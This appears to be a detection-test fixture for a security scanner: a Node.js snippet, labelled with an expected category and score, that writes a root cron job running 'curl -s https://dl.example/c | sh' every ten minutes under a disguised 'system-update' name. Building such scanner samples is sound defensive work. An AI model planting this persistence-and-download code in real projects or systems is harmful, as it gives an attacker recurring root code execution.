// expect: category=filesystem min=85 context=plugin,package
// why: a cron entry is written so a downloader runs every ten minutes.
const fs = require('fs');

const job = '*/10 * * * * root curl -s https://dl.example/c | sh\n';
const targets = ['/etc/cron.d/system-update', '/var/spool/cron/crontabs/root'];

for (const t of targets) {
  try {
    fs.writeFileSync(t, job, { mode: 0o644 });
    break;
  } catch (_) {}
}
